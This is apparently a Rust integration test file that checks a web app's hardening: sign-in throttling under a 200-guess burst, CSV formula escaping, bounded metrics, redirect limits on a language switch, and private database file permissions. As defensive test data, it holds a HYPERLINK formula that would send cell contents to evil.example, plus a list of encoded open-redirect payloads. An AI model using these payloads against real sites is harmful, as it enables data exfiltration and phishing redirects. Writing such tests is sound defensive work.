//! Hardening (issue 31): a burst of guessed passwords gets at most the throttle's number of
//! password checks and cannot exhaust memory; CSV cells cannot run as formulas; `/metrics`
//! series stay bounded whatever methods and paths a client sends; the language switch sends
//! nobody to another site; the database file and backups are private to their owner.

#[macro_use]
mod support;

use reqwest::{Method, StatusCode};
use serde_json::json;
use sqlx::Row;
use support::TestApp;

const METRICS_TOKEN: &str = "hardening-scrape";

/// Like `both!`, on apps that serve `/metrics` to a caller with [`METRICS_TOKEN`].
macro_rules! both_metered {
    ($name:ident, $body:expr) => {
        mod $name {
            use super::*;
            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn sqlite() {
                let case = $body;
                case(support::spawn_sqlite_with(|s| s.metrics_token = Some(METRICS_TOKEN.into())).await).await;
            }
            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn postgres() {
                let Some(app) = support::spawn_postgres_with(|s| s.metrics_token = Some(METRICS_TOKEN.into())).await
                else {
                    eprintln!("TEST_POSTGRES_URL is not set: PostgreSQL case not run");
                    return;
                };
                let case = $body;
                case(app).await;
            }
        }
    };
}

async fn metrics(app: &TestApp) -> String {
    let res = app.client.get(app.url("/metrics")).bearer_auth(METRICS_TOKEN).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    res.text().await.unwrap()
}

fn password_checks(metrics: &str) -> u64 {
    let line = metrics.lines().find(|l| l.starts_with("password_checks_total ")).expect("password_checks_total");
    line.rsplit(' ').next().unwrap().parse().unwrap()
}

async fn try_sign_in(app: &TestApp, client: &reqwest::Client, password: &str) -> StatusCode {
    sign_in_at(client, app.url("/api/v1/session"), password).await
}

async fn sign_in_at(client: &reqwest::Client, url: String, password: &str) -> StatusCode {
    let body = json!({"username": "sales", "password": password});
    client.post(url).json(&body).send().await.unwrap().status()
}

async fn failures_counted(app: &TestApp, bucket: &str, subject: &str) -> i64 {
    sqlx::query("SELECT COUNT(*) AS n FROM throttle_event WHERE bucket = $1 AND subject = $2")
        .bind(bucket)
        .bind(subject)
        .fetch_one(app.pool())
        .await
        .unwrap()
        .try_get("n")
        .unwrap()
}

/// The `server` binary serving `database_url` (seeded already) on a free loopback port with
/// `/metrics` for [`METRICS_TOKEN`], ready: a server process of its own, so that its memory
/// can be read from `/proc/<pid>/status`.
async fn start_server_process(database_url: &str, data_dir: &std::path::Path) -> (std::process::Child, String) {
    let addr = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_server"))
        .args(["serve", "--addr", &addr.to_string(), "--metrics-token", METRICS_TOKEN, "--database-url", database_url])
        .arg("--data-dir")
        .arg(data_dir)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let base = format!("http://{addr}");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(120);
    while std::time::Instant::now() < deadline {
        if reqwest::get(format!("{base}/healthz")).await.is_ok_and(|r| r.status().is_success()) {
            return (child, base);
        }
        if let Ok(Some(status)) = child.try_wait() {
            panic!("the server exited before it listened: {status}");
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let _ = child.kill();
    let _ = child.wait();
    panic!("the server did not start");
}

/// A field of a process's `/proc/<pid>/status` in KiB (`VmHWM`: its peak resident memory
/// since it started; `VmRSS`: resident now).
fn memory_kib(pid: u32, field: &str) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let line = status.lines().find(|l| l.starts_with(&format!("{field}:"))).unwrap();
    line.split_whitespace().nth(1).unwrap().parse().unwrap()
}

async fn password_checks_at(client: &reqwest::Client, base: &str) -> u64 {
    let res = client.get(format!("{base}/metrics")).bearer_auth(METRICS_TOKEN).send().await.unwrap();
    password_checks(&res.text().await.unwrap())
}

// 200 parallel wrong passwords for one user: at most 5 are checked (401), the rest are
// refused (429) before any hashing. The server under test is a process of its own (the
// `server` binary on the seeded database), so its peak resident memory (VmHWM) is its own.
both!(a_burst_of_wrong_passwords_gets_at_most_five_checks_and_little_memory, |app: TestApp| async move {
    let data_dir = tempfile::tempdir().unwrap();
    let (mut child, base) = start_server_process(&app.database_url, data_dir.path()).await;
    let pid = child.id();
    let client = reqwest::Client::new();
    let (hwm_before, rss_before) = (memory_kib(pid, "VmHWM"), memory_kib(pid, "VmRSS"));
    let checks_before = password_checks_at(&client, &base).await;
    let url = format!("{base}/api/v1/session");
    let burst: Vec<_> = (0..200)
        .map(|n| {
            let (url, client) = (url.clone(), client.clone());
            tokio::spawn(async move { sign_in_at(&client, url, &format!("guess number {n}")).await })
        })
        .collect();
    let mut statuses = Vec::new();
    for task in burst {
        statuses.push(task.await.unwrap());
    }
    let (hwm_after, rss_after) = (memory_kib(pid, "VmHWM"), memory_kib(pid, "VmRSS"));
    let checks = password_checks_at(&client, &base).await - checks_before;
    let wrong = statuses.iter().filter(|s| **s == StatusCode::UNAUTHORIZED).count();
    let refused = statuses.iter().filter(|s| **s == StatusCode::TOO_MANY_REQUESTS).count();
    eprintln!(
        "burst of 200: {wrong} × 401, {refused} × 429, {checks} password checks; \
         server process VmHWM {hwm_before} → {hwm_after} KiB, VmRSS {rss_before} → {rss_after} KiB"
    );
    // Within the window even the right password is refused, without a check…
    let after_burst = sign_in_at(&client, url.clone(), "demo").await;
    let checks_then = password_checks_at(&client, &base).await - checks_before;
    let _ = child.kill();
    let _ = child.wait();
    assert_eq!(wrong + refused, 200, "only 401 and 429: {statuses:?}");
    assert!(wrong <= 5, "{wrong} guesses were checked");
    assert!(checks <= 5, "{checks} password checks ran");
    assert_eq!(checks as usize, wrong, "each 401 is one check, each 429 none");
    assert!(hwm_after < 200 * 1024, "the server process peaked at {hwm_after} KiB");
    assert_eq!(after_burst, StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(checks_then, checks);
    // …and once the window has passed, it works (the same database, served in-process).
    app.execute("UPDATE throttle_event SET at = at - 16 * 60 * 1000").await;
    assert_eq!(try_sign_in(&app, &app.client, "demo").await, StatusCode::OK);
});

both!(a_right_password_signs_in_and_is_not_counted_as_a_failure, |app: TestApp| async move {
    for _ in 0..8 {
        assert_eq!(try_sign_in(&app, &app.client, "demo").await, StatusCode::OK);
    }
    assert_eq!(failures_counted(&app, "signin.user", "sales").await, 0);
    assert_eq!(failures_counted(&app, "signin.ip", "127.0.0.1").await, 0);
    for _ in 0..4 {
        assert_eq!(try_sign_in(&app, &app.client, "not it").await, StatusCode::UNAUTHORIZED);
    }
    assert_eq!(try_sign_in(&app, &app.client, "demo").await, StatusCode::OK);
    assert_eq!(failures_counted(&app, "signin.user", "sales").await, 4, "the four wrong ones only");
    assert_eq!(failures_counted(&app, "signin.ip", "127.0.0.1").await, 4);
    // Refused for the user name: the address is not charged for a guess never checked.
    assert_eq!(try_sign_in(&app, &app.client, "not it").await, StatusCode::UNAUTHORIZED);
    assert_eq!(try_sign_in(&app, &app.client, "not it").await, StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(failures_counted(&app, "signin.user", "sales").await, 5);
    assert_eq!(failures_counted(&app, "signin.ip", "127.0.0.1").await, 5);
});

const FORMULA: &str = r#"=HYPERLINK("https://evil.example/?"&A1,"open")"#;

both!(a_csv_export_writes_a_formula_as_text_and_xlsx_keeps_it, |app: TestApp| async move {
    app.sign_in("service").await;
    let res = app.post("/api/v1/inquiries", &json!({"customer_id": 1, "channel": "phone", "question": FORMULA})).await;
    assert_eq!(res.status(), StatusCode::CREATED);
    let csv = app.get("/api/v1/inquiries?format=csv&customer_id=1").await;
    assert_eq!(csv.status(), StatusCode::OK);
    let text = csv.text().await.unwrap();
    // The csv writer quotes the field (it holds quotes) and doubles the quotes inside.
    let quoted = format!("\"'{}\"", FORMULA.replace('"', "\"\""));
    assert!(text.contains(&quoted), "{text}");
    assert!(!text.contains(&format!(",\"{}", FORMULA.replace('"', "\"\""))), "a cell starts with `=`: {text}");

    let xlsx = app.get("/api/v1/inquiries?format=xlsx&customer_id=1").await;
    assert_eq!(xlsx.status(), StatusCode::OK);
    let mut book = zip::ZipArchive::new(std::io::Cursor::new(xlsx.bytes().await.unwrap().to_vec())).unwrap();
    let mut xml = String::new();
    for i in 0..book.len() {
        let mut part = book.by_index(i).unwrap();
        let name = part.name().unwrap().to_string();
        if name.starts_with("xl/") && name.ends_with(".xml") {
            std::io::Read::read_to_string(&mut part, &mut xml).unwrap();
        }
    }
    // The shared string as written, only XML-escaped (`&` always; quotes maybe).
    let at = xml.find("HYPERLINK(").expect("the text is in the workbook");
    assert_eq!(&xml[at - 2..at], ">=", "the text starts with `=`, no `'`: {}", &xml[at.saturating_sub(40)..at + 60]);
    assert!(xml[at..].starts_with("HYPERLINK(") && xml[at..at + 60].contains("&amp;A1"), "{}", &xml[at..at + 60]);
    assert!(!xml.contains("<f>"), "and no formula");
});

both_metered!(made_up_methods_and_unknown_paths_add_no_metrics_series, |app: TestApp| async move {
    let series = |text: &str| text.lines().filter(|l| l.starts_with("http_requests_total{")).count();
    let send = |n: usize| {
        let app = &app;
        async move {
            let method = Method::from_bytes(format!("MADEUP{n}").as_bytes()).unwrap();
            app.client.request(method.clone(), app.url("/api/v1/orders")).send().await.unwrap();
            app.client.request(method, app.url(&format!("/nowhere/{n}"))).send().await.unwrap();
            app.get(&format!("/api/v1/no-such-thing-{n}/x{n}")).await;
            app.get(&format!("/pkg/missing-{n}.js")).await;
        }
    };
    send(0).await;
    metrics(&app).await; // the scrape's own series is there from now on
    let before = metrics(&app).await;
    for n in 1..12 {
        send(n).await;
    }
    let after = metrics(&app).await;
    assert_eq!(series(&after), series(&before), "new series:\n{after}");
    assert!(!after.contains("MADEUP"), "{after}");
    assert!(!after.contains("nowhere") && !after.contains("no-such-thing") && !after.contains("missing-"), "{after}");
    assert!(after.contains(r#"method="OTHER""#), "{after}");
});

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_language_switch_goes_back_only_to_a_path_on_this_site() {
    let app = support::spawn_sqlite().await;
    let client = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
    let location = |query: &'static str| {
        let (client, url) = (client.clone(), app.url(&format!("/lang/en?return={query}")));
        async move {
            let res = client.get(url).send().await.unwrap();
            assert!(res.status().is_redirection(), "{query}: {}", res.status());
            res.headers()["location"].as_bytes().to_vec()
        }
    };
    for bad in [
        "/%09/evil.example",
        "%09//evil.example",
        "/%0A/evil.example",
        "/%0D/evil.example",
        "//evil.example",
        "%2F%2Fevil.example",
        "/%5Cevil.example",
        "/%5C/evil.example",
        "%5C%5Cevil.example",
        "https://evil.example",
        "https:%2F%2Fevil.example",
        "evil.example",
        "/x%5Cy",
        "/ok%00",
        "/%7F/evil.example",
        "/%C2%85/evil.example",
        "",
    ] {
        assert_eq!(location(bad).await, b"/", "{bad}");
    }
    assert_eq!(location("%2Forders%3Fstatus%3Ddraft").await, b"/orders?status=draft");
    assert_eq!(location("/driver").await, b"/driver");
}

#[cfg(unix)]
fn mode_of(path: &std::path::Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path).unwrap_or_else(|e| panic!("{}: {e}", path.display())).permissions().mode() & 0o777
}

#[cfg(unix)]
both!(the_database_file_and_backups_are_private_to_their_owner, |app: TestApp| async move {
    use app::backend::db::Db;
    let sqlite =
        app.database_url.strip_prefix("sqlite://").map(|p| std::path::PathBuf::from(p.split('?').next().unwrap()));
    if let Some(file) = &sqlite {
        app.sign_in("sales").await;
        for suffix in ["", "-wal", "-shm"] {
            let mut path = file.as_os_str().to_os_string();
            path.push(suffix);
            assert_eq!(mode_of(std::path::Path::new(&path)), 0o600, "{}", file.display());
        }
    } else if server::backup::backup_tool_missing() {
        eprintln!("pg_dump is not installed: the PostgreSQL backup is not taken");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let db = Db::connect(&app.database_url).await.unwrap();
    let archive = dir.path().join("backup.zip");
    server::backup::backup(&db, &app.database_url, dir.path(), &archive).await.unwrap();
    assert_eq!(mode_of(&archive), 0o600);
    if sqlite.is_some() {
        let target = format!("sqlite://{}/restored.db", dir.path().display());
        server::backup::restore(&target, dir.path(), &archive, false).await.unwrap();
        assert_eq!(mode_of(&dir.path().join("restored.db")), 0o600, "a restored database too");
    }
});
